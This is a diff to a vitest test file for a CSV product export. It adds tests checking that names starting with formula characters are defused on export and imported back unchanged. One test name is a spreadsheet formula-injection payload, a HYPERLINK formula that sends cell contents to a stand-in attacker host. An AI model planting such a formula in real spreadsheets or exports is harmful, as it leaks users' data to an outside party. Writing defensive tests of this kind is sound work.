@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createActiveBom, createProduct, csvHeaderLine, importCsv, uniqueProductCode } from '../../../test/factories/technical.js';
 import { startTestServer, type Client, type Session, type TestServer } from '../../../test/server.js';
@@ -134,6 +135,46 @@ describe('CSV export', () => {
     const again = await importCsv(api, response.body);
     expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 2, errorCount: 0 });
     expect(await exported(api)).toBe(response.body);
+  });
+
+  it('defuses names a spreadsheet would run as formulas, and imports them back exactly as they were', async () => {
+    const { api } = await freshOrg();
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(A1:A9)', '+48 flour', '-1 grade', "'=already quoted", 'Plain'];
+    const codes = names.map((name, index) => `F${index}`);
+    for (const [index, name] of names.entries()) await createProduct(api, { code: codes[index], name, shelfLifeDays: index });
+    const body = await exported(api);
+    const lines = body.trimEnd().split('\r\n').slice(1);
+    expect(lines).toEqual([
+      `F0,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",raw,kg,0,,`,
+      "F1,'@SUM(A1:A9),raw,kg,1,,",
+      "F2,'+48 flour,raw,kg,2,,",
+      "F3,'-1 grade,raw,kg,3,,",
+      "F4,''=already quoted,raw,kg,4,,",
+      'F5,Plain,raw,kg,5,,',
+    ]);
+    const other = await freshOrg();
+    expect((await importCsv(other.api, body)).body).toMatchObject({ created: names.length, errorCount: 0 });
+    const imported = (await other.api.get('/api/v1/products?limit=50')).body.items as { code: string; name: string }[];
+    expect(Object.fromEntries(imported.map((product) => [product.code, product.name]))).toEqual(Object.fromEntries(codes.map((code, index) => [code, names[index]])));
+    expect(await exported(other.api)).toBe(body);
+  });
+
+  it('round-trips any product name through export and import, whatever quotes and formula characters it holds', { timeout: 120_000 }, async () => {
+    const unit = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', 'ż', '1', '(', '|');
+    const name = fc.string({ unit, minLength: 1, maxLength: 12 }).filter((text) => text.trim() === text && text.length > 0);
+    await fc.assert(
+      fc.asyncProperty(fc.uniqueArray(name, { minLength: 1, maxLength: 6 }), async (names) => {
+        const { api } = await freshOrg();
+        for (const [index, productName] of names.entries()) await createProduct(api, { code: `N${index}`, name: productName });
+        const body = await exported(api);
+        const other = await freshOrg();
+        expect((await importCsv(other.api, body)).body).toMatchObject({ created: names.length, errorCount: 0 });
+        const imported = (await other.api.get('/api/v1/products?limit=50')).body.items as { code: string; name: string }[];
+        expect(imported.map((product) => product.name).sort()).toEqual([...names].sort());
+        expect(await exported(other.api)).toBe(body);
+      }),
+      { numRuns: 15 },
+    );
   });
 });
 
